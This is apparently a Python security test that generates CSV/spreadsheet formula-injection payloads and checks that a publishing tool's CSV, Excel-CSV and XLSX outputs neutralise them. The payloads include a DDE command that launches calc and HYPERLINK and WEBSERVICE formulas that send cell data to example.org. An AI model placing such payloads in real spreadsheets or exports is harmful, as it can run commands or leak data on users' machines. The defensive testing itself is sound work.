"""Texts that Excel and its kin would take for formulas. Out: attacks by cells, headings, labels and titles, with a judge for each file."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl

from tests.security.attacks.markup import text
from tests.security.sandbox import HARMLESS, REFUSED, Attack, Body

LEADS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    " =",
    '"=',
    "=-",
    "+-+",
    "@=",
    "-=",
    "%0A=",
    ";=",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("https://example.org/?"&A1,"x")',
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML("https://example.org","//a")',
]
NUMBERS = ["-1", "+1", "-0.5", "-1e5", "1", "-9007199254740993", "-1.50"]
SETTINGS = '[tool.publisher]\ntarget = "public"\nlanguages = ["en"]\n'


def attacks() -> Iterator[Attack]:
    for lead in LEADS:
        for body in BODIES:
            payload = lead + body
            yield Attack(
                f"{payload!r}",
                package(payload),
                ends=(HARMLESS, REFUSED),
                arguments=("publish", "p"),
                judge=lambda folder, payload=payload: judge(folder, payload),  # type: ignore[misc]
            )


def package(payload: str) -> dict[str, Body]:
    """The payload as a cell, a heading, a label and a title; numbers beside it."""
    fields = [
        {"name": "id", "type": "integer", "title": payload},
        {"name": "text", "type": "string", "title": payload, "description": payload},
        {"name": "number", "type": "number"},
        {"name": "kind", "type": "string", "categories": [{"value": "a", "label": payload}]},
    ]
    resource = {"name": "t", "path": "t.csv", "title": payload, "schema": {"fields": fields, "primaryKey": "id"}}
    rows = [[str(row), payload, number, "a"] for row, number in enumerate(NUMBERS, start=1)]
    return {
        "pyproject.toml": SETTINGS,
        "datasets/p/datapackage.json": json.dumps({"name": "p", "title": payload, "resources": [resource]}),
        "datasets/p/t.csv": text([["id", "text", "number", "kind"], *rows]),
    }


def judge(folder: Path, payload: str) -> str:
    """What is wrong with the files of the release: programs read the text itself, Excel reads a text and no formula."""
    release = folder / "public/p/v/1.0.0"
    if not release.exists():
        return ""
    plain, excel = (_rows(release / name) for name in ("t.csv", "t.en.excel.csv"))
    if [row[1] for row in plain[1:]] != [payload] * len(NUMBERS):
        return f"the text was changed: {plain[1]}"
    for row in excel:
        if bad := [
            cell for cell in row if runs(cell) and not re.fullmatch(r"[+-]?[\d.]+(e\+?\d+)?", cell, re.IGNORECASE)
        ]:
            return f"Excel would run {bad}"
    if [row[2] for row in excel[1:]] != [row[2] for row in plain[1:]]:
        return f"numbers were touched: {excel}"
    return _judge_workbook(release / "p.xlsx", payload)


def runs(cell: str) -> bool:
    """Whether spreadsheets take a cell of a CSV for a formula (OWASP, CSV injection)."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), strict=True))


def _judge_workbook(path: Path, payload: str) -> str:
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    kinds = {cell.column: cell.data_type for cell in cells}
    if any(cell.data_type == "f" for every in book.worksheets for row in every.iter_rows() for cell in row):
        return "the workbook has a formula"
    if kinds[2] != "s" or kinds[1] != "n":
        return f"the workbook has cells of the kinds {kinds}"
    if str(sheet.cell(2, 2).value).replace("_x000D_", "\r") != payload:
        return f"the workbook changed the text to {sheet.cell(2, 2).value!r}"
    return ""
